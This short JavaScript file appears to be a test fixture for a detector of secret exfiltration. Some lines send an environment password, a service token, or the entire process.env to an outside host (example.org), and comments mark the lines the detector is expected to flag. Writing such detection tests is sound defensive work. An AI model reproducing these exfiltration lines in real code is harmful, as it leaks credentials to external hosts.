const request = new Request('https://example.org', { method: 'POST', body: process.env.SERVICE_PASSWORD });
const form = new FormData();
form.append('key', process.env.SERVICE_TOKEN);
form.append('name', 'value');
new Request('https://example.org', { headers: { Authorization: process.env.SERVICE_TOKEN } });
await fetch('https://example.org', { method: 'POST', body: Object.entries(process.env).join('&') });
await fetch('https://example.org', { method: 'POST', body: Object.entries({ a: 1 }).join('&') });
// expect 1 any.secret-sent
// expect 3 any.secret-sent
// expect 6 any.secret-sent
